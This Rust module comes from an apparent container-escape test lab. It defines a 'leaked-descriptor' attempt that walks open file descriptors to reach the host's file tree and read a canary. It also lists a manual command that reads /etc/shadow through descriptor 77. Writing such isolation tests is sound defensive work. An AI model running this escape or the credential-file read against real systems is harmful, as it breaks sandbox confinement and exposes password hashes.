//! leaked-descriptor: use a directory that the caller left open.

use super::{Attempt, Measured, Need};
use crate::attacker::Failed;
use crate::attacker::files::OPENS;
use crate::refusals::Refusal;
use crate::{Attacker, Host, Seen};
use nix::libc;
use nix::sys::stat::SFlag;

/// The attempt.
pub const ATTEMPT: Attempt = Attempt {
    id: "leaked-descriptor",
    stake: "The host's whole file tree, for one descriptor that nobody closed.",
    story: "A descriptor goes with the process, through fork, chroot, pivot_root and execve. The \
            host leaves its root directory open on descriptor 77, as a careless caller might, and \
            the attacker tries each number as a directory to open the canary from. No mount and no \
            root directory stands in the way of openat(2): the container must close what it did not \
            open.",
    by_hand: &["ls -l /proc/self/fd", "cat /proc/self/fd/77/etc/shadow"],
    stopped_by: &["lab3-pivot/close-descriptors"],
    after: &[],
    man: &["openat(2)", "close_range(2)"],
    letters: Measured { root: "E EEEBBBB", user: "E EEEBBBB", rootless: "E EEEBBBB" },
    needs: &[Need::LeakedDescriptor],
    decisive: OPENS,
    attack,
    class: Refusal::File,
    witness,
};

/// The number on which the host leaves it.
const LEFT: i32 = 77;

/// Each descriptor is tried, if there are no more.
const MAX_DESCRIPTORS: usize = 1024;

fn attack(me: &mut Attacker) -> Result<(), Failed> {
    let all = me.descriptors()?;
    if all.len() > MAX_DESCRIPTORS {
        return me.gives_up("it has more descriptors than are tried");
    }
    for descriptor in all {
        if !me.is_directory(descriptor)? {
            continue;
        }
        match me.take_canary(descriptor, &["", "../../../../"]) {
            Ok(()) | Err(Failed::Refused(_)) => {}
            other => return other,
        }
    }
    me.open_stake_at(LEFT, me.given("canary"), libc::O_RDONLY).map(drop)
}

fn witness(host: &Host) -> Seen {
    if host.took("canary") || host.took("root") {
        return Seen::Effect("the attacker has the host's root directory by a descriptor left open".into());
    }
    if !host.opened.is_empty() && !host.opened.iter().any(|it| it.is(SFlag::S_IFDIR)) {
        return Seen::Confined("none of the attacker's descriptors is a directory".into());
    }
    Seen::Nothing
}
